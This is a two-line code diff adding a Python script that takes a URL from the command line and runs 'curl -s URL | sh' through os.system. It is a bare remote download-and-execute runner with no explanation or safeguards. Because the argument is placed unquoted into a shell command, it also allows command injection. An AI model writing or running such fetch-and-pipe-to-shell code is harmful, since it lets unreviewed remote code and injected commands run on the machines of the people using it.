@@ -1,0 +1,2 @@
+import os, sys
+os.system('curl -s %s | sh' % sys.argv[1])
